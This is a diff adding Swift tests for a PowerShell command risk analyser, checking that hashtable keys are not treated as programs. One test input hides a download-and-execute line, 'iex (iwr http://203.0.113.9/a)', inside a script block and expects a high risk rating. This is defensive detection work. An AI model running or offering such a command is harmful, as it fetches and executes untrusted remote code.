@@ -86,3 +86,23 @@ import Testing
         #expect(a.risk <= .medium, "`\(command)` was \(a.risk): \(a.summary)")
     }
 }
+
+/// PowerShell hashtables: `@{Name=…; Expression={…}}` keys are names, never programs; the code in
+/// a value's script block is still read.
+@Suite struct PowerShellHashtableTests {
+    @Test(arguments: [
+        "Get-ChildItem C:\\Logs | Select-Object Name, @{Name='SizeMB';Expression={$_.Length / 1MB}}",
+        "$h = @{Path='C:\\temp\\x'; ItemType='Directory'}; New-Item @h",
+        "Get-Process | Sort-Object -Property @{Expression = 'CPU'; Descending = $true} | Select-Object -First 5",
+    ])
+    func keysAreNotPrograms(_ command: String) throws {
+        let a = try Analyser.bundled().get().analyse(command, dialect: .powershell)
+        #expect(!a.findings.contains { $0.reason.contains("does not know the program") }, "`\(command)`: \(a.findings.map(\.reason))")
+        #expect(a.risk <= .low, "`\(command)` was \(a.risk): \(a.summary)")
+    }
+
+    @Test func codeInAValueIsRead() throws {
+        let a = try Analyser.bundled().get().analyse("Get-Item x | Select-Object @{N='x'; E={ iex (iwr http://203.0.113.9/a) }}", dialect: .powershell)
+        #expect(a.risk >= .high, "\(a.summary)")
+    }
+}
